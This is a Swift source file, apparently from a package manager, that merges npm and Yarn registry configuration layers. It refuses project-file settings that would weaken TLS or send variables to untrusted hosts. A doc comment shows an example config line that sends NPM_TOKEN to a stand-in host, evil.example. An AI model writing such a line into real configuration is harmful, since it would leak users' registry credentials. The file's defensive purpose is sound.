import PackageModel
import Registry

extension RegistryConfiguration {
    /// Merges layers, the first of which wins, as npm does.
    ///
    /// A project's file is written by whoever writes the project, and a pull request may change it. So it may not weaken
    /// what the user set up (certificates, the user's own files), and may use variables only for an origin that the user's
    /// own layers or the default registry name: `//evil.example/:_authToken=${NPM_TOKEN}` would send a token away. Nor may
    /// it put them into the path of a registry, which is shown and recorded. What is refused is said in `notices`.
    ///
    /// - Parameter variables: what `${NAME}` stands for.
    package init(layers: [ConfigurationLayer], variables: [String: String]) {
        self.init()
        let layers = Self.withoutExports(layers, variables)
        var reader = ConfigurationReader(variables: variables, trusted: Self.trustedOrigins(layers, variables))
        for layer in layers { reader.read(layer) }
        reader.finish(into: &self)
    }

    /// Layers in which the settings of a project's file are the project's also where npm handed them on: it exports what its files
    /// say to the programs that it starts, as `npm_config_*`.
    private static func withoutExports(
        _ layers: [ConfigurationLayer], _ variables: [String: String]
    ) -> [ConfigurationLayer] {
        guard variables["npm_config_user_agent"] != nil || variables["npm_config_local_prefix"] != nil else {
            return layers
        }
        let projects = layers.filter { $0.kind == .project && $0.syntax == .npm }
        let keys = Set(projects.flatMap { layer in layer.entries.map { layer.expanded($0, variables).key.text } })
        return layers.flatMap { layer in
            guard layer.kind == .environment, layer.syntax == .npm else { return [layer] }
            func part(_ kind: ConfigurationLayer.Kind, _ isIn: (NPMRC.Entry) -> Bool) -> ConfigurationLayer {
                ConfigurationLayer(kind: kind, name: layer.name, entries: layer.entries.filter(isIn))
            }
            return [part(.environment) { !keys.contains($0.key) }, part(.project) { keys.contains($0.key) }]
        }
    }

    private static func trustedOrigins(
        _ layers: [ConfigurationLayer], _ variables: [String: String]
    ) -> Set<WebAddress.Origin> {
        var origins: Set<WebAddress.Origin> = []
        if let standard = WebAddress(Endpoints.defaultRegistry) { origins.insert(standard.origin) }
        for layer in layers where layer.kind != .project {
            for entry in layer.entries {
                let (key, value) = layer.expanded(entry, variables)
                let address = CredentialKey(key.text)?.nerfDart.https ?? UserInfo(splitting: value.text).address
                if let origin = WebAddress(address)?.origin { origins.insert(origin) }
            }
        }
        return origins
    }
}

/// Collects settings layer by layer.
struct ConfigurationReader {
    /// What layers say, by key.
    private struct Values {
        var settings: [String: String] = [:]
        var scopes: [String: String] = [:]
        var credentials: [NerfDart: [CredentialKey.Field: String]] = [:]
        var directHosts: [String] = []
    }

    let variables: [String: String]
    let trusted: Set<WebAddress.Origin>
    private var values = Values()
    private var embedded: [(address: WebAddress, authorization: Secret)] = []
    private var certificates: [String] = []
    private var notices: [String] = []

    init(variables: [String: String], trusted: Set<WebAddress.Origin>) {
        self.variables = variables
        self.trusted = trusted
    }

    /// Within a layer the last value of a key counts, among layers that of the first; what is empty says nothing.
    mutating func read(_ layer: ConfigurationLayer) {
        var own = Values()
        notices += layer.notices
        for entry in layer.entries { read(entry, from: layer, into: &own) }
        // `null` switches a proxy off, and is no registry.
        let settings = own.settings.filter { $0.key == "registry" ? Self.isSet($0.value) : !$0.value.isEmpty }
        values.settings.merge(settings) { first, _ in first }
        values.scopes.merge(own.scopes.filter { Self.isSet($0.value) }) { first, _ in first }
        values.credentials.merge(own.credentials) { first, other in first.merging(other) { first, _ in first } }
        if values.directHosts.isEmpty { values.directHosts = own.directHosts }
    }

    private mutating func read(_ entry: NPMRC.Entry, from layer: ConfigurationLayer, into values: inout Values) {
        let (key, value) = layer.expanded(entry, variables)
        let place = entry.line == 0 ? layer.name : "\(layer.name): line \(entry.line)"
        if layer.kind == .project, let reason = refusal(of: key, value) {
            notices.append("\(place): \(reason)")
            return
        }
        if key.text.hasPrefix("//") {
            guard let (dart, field) = credential(key.text, value, place) else { return }
            // Yarn takes a name and a password as they are, too.
            let isPlain = layer.syntax == .yarn && field == .auth && value.text.contains(":")
            values.credentials[dart, default: [:]][field] = isPlain ? Base64.encode(Array(value.text.utf8)) : value.text
        } else if let scope = Self.scope(key.text) {
            values.scopes[scope] = value.text
        } else if key.text == "ca" || key.text == "ca[]" {
            if Self.isSet(value.text) { certificates.append(Self.withLineFeeds(value.text)) }
        } else if key.text == "noproxy" || key.text == "noproxy[]" {
            let hosts = Self.hosts(value.text)
            values.directHosts = key.text == "noproxy" ? hosts : values.directHosts + hosts
        } else if ["_auth", "_authToken", "_password", "username"].contains(key.text) {
            notices.append("\(place): `\(key.text)` without a registry is not used; write `//host/:\(key.text)`")
        } else {
            values.settings[key.text] = value.text
        }
    }

    /// The scope whose registry a key names; nil for other keys.
    private static func scope(_ key: String) -> String? {
        let suffix = ":registry"
        guard key.hasPrefix("@"), key.hasSuffix(suffix) else { return nil }
        return String(key.dropFirst().dropLast(suffix.count))
    }

    /// Why an entry of a project's file is not used; nil for what it may say.
    private func refusal(of key: VariableExpansion, _ value: VariableExpansion) -> String? {
        switch key.text {
        case "strict-ssl" where value.text == "false", "ca", "ca[]", "cafile":
            return "`\(key.text)` decides whom to trust, which a project's file may not; set it in your own"
        case "userconfig", "globalconfig", "prefix":
            return "`\(key.text)` decides where your own configuration is, which a project's file may not"
        default: break
        }
        guard key.usesVariables || value.usesVariables else { return nil }
        let isRegistry = key.text == "registry" || Self.scope(key.text) != nil
        if isRegistry, key.usesVariables || value.usesVariablesInPath {
            return "would put a variable into a path or a scope, which are shown and recorded; refused"
        }
        let dart = CredentialKey(key.text)?.nerfDart
        guard let origin = WebAddress(dart?.https ?? UserInfo(splitting: value.text).address)?.origin else {
            // No address, so that nothing is sent anywhere, or none that could be judged.
            return key.text.hasPrefix("//") || isRegistry || key.text.hasSuffix("proxy")
                ? "uses a variable in an address that cannot be read; refused" : nil
        }
        // The key of a credential has no scheme; it is sent over TLS alone, or to this machine.
        let isTrusted =
            dart == nil
            ? trusted.contains(origin) : trusted.contains { $0.host == origin.host && $0.port == origin.port }
        return isTrusted
            ? nil : "would send a variable to a host that your own configuration does not name; refused"
    }

    /// What a key beginning with `//` says, where that can be used.
    private mutating func credential(
        _ key: String, _ value: VariableExpansion, _ place: String
    ) -> (NerfDart, CredentialKey.Field)? {
        guard let key = CredentialKey(key) else { return nil }
        guard WebAddress(key.nerfDart.https) != nil else {
            notices.append("\(place): names no registry and is not used")
            return nil
        }
        if let name = value.missing.first {
            notices.append("\(place): the variable `\(name)` is not set; the credential is not used")
            return nil
        }
        guard value.text.utf8.allSatisfy({ (0x20...0x7E).contains($0) }) else {
            notices.append("\(place): the credential has characters that none has; it is not used")
            return nil
        }
        return (key.nerfDart, key.field)
    }

    /// An address as it is used; what it has of a user name and a password becomes a credential for it.
    private mutating func withoutUserInfo(_ text: String) -> String {
        let parts = UserInfo(splitting: text)
        if let authorization = parts.authorization, let address = WebAddress(parts.address) {
            embedded.append((address, authorization))
        }
        return parts.address
    }

    mutating func finish(into configuration: inout RegistryConfiguration) {
        let settings = values.settings
        if let registry = settings["registry"] { configuration.registry = withoutUserInfo(registry) }
        // In one order: of several passwords for one address always the same is used.
        for (scope, registry) in values.scopes.sorted(by: { precedesBytewise($0.key, $1.key) }) {
            configuration.scopedRegistries[scope] = withoutUserInfo(registry)
        }
        configuration.certificates = certificates
        if let file = settings["cafile"], Self.isSet(file) { configuration.certificateFiles = [file] }
        configuration.verifiesTLS = settings["strict-ssl"] != "false"
        configuration.httpsProxy = proxy("https-proxy", "HTTPS_PROXY", "https_proxy") ?? proxy("proxy")
        configuration.httpProxy = proxy("http-proxy") ?? proxy("proxy", "HTTP_PROXY", "http_proxy")
        let direct = variables["NO_PROXY"] ?? variables["no_proxy"] ?? ""
        configuration.noProxy = values.directHosts.isEmpty ? Self.hosts(direct) : values.directHosts
        addCredentials(to: &configuration)
        if !configuration.verifiesTLS {
            notices.append("`strict-ssl` is off: nobody vouches for the servers that are asked")
        }
        configuration.notices = notices
    }

    private mutating func addCredentials(to configuration: inout RegistryConfiguration) {
        // A nerf dart leaves out the scheme: `https`, and `http` too if a registry that is used is at that place.
        let used = ([configuration.registry] + configuration.scopedRegistries.values).compactMap(WebAddress.init)
        for (dart, fields) in values.credentials.sorted(by: { precedesBytewise($0.key.text, $1.key.text) }) {
            guard let authorization = Self.authorization(fields) else { continue }
            for address in [dart.https, dart.http].compactMap(WebAddress.init)
            where address.origin.isSecure || used.contains(where: { $0.origin == address.origin }) {
                configuration.credentials.add(authorization, for: address)
                if !address.origin.isSecure, !address.origin.isLoopback {
                    notices.append("credentials for `\(address.origin)` are not sent: the connection is not secure")
                }
            }
        }
        for (address, authorization) in embedded { configuration.credentials.add(authorization, for: address) }
    }

    private func proxy(_ setting: String, _ names: String...) -> Secret? {
        for value in [values.settings[setting]] + names.map({ variables[$0] }) {
            if let value, Self.isSet(value), value != "false" { return Secret(value) }
        }
        return nil
    }

    private static func authorization(_ fields: [CredentialKey.Field: String]) -> Secret? {
        if let token = fields[.authToken], !token.isEmpty { return Secret("Bearer \(token)") }
        if let basic = fields[.auth], !basic.isEmpty { return Secret("Basic \(basic)") }
        guard let user = fields[.username], let encoded = fields[.password], let password = Base64.decode(encoded)
        else { return nil }
        return Secret("Basic " + Base64.encode(Array(user.utf8) + [UInt8(ascii: ":")] + password))
    }

    private static func isSet(_ value: String) -> Bool { !value.isEmpty && value != "null" }

    private static func hosts(_ text: String) -> [String] {
        text.split { $0 == "," || $0 == " " }.map { $0.lowercased() }
    }

    private static func withLineFeeds(_ text: String) -> String {
        text.split(separator: "\\n", omittingEmptySubsequences: false).joined(separator: "\n")
    }
}
